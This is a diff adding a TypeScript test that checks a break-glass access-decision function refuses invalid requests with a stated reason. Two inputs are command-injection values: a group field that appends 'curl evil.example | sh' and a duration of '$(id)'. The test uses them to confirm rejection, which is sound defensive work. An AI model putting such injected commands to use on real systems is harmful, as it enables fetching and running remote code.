@@ -83,3 +83,18 @@ test('a team member is allowed through the team; anyone else is refused; inputs 
   const typed = await decideBreakGlass({ group: ['k8s-prod-operators'], duration: 30, reason: {} }, facts);
   assert.ok(!typed.ok);
 });
+
+test('refused with the reason: a group without break-glass, longer than its maximum, no ticket, a group not in the policy, not a duration', async () => {
+  const cases: [Record<string, string>, RegExp][] = [
+    [{ ...inputs, group: 'prod-db-admins' }, /prod-db-admins does not allow break-glass/],
+    [{ ...inputs, duration: '3h' }, /break-glass for k8s-prod-operators allows at most 1h/],
+    [{ ...inputs, ticket: '' }, /needs a ticket/],
+    [{ ...inputs, group: 'k8s-prod-operators; curl evil.example | sh' }, /is not in the policy/],
+    [{ ...inputs, duration: '$(id)' }, /is not a duration/],
+  ];
+  for (const [given, why] of cases) {
+    const d = await decideBreakGlass(given, facts);
+    assert.ok(!d.ok, JSON.stringify(given));
+    assert.match(d.reasons.join('\n'), why);
+  }
+});
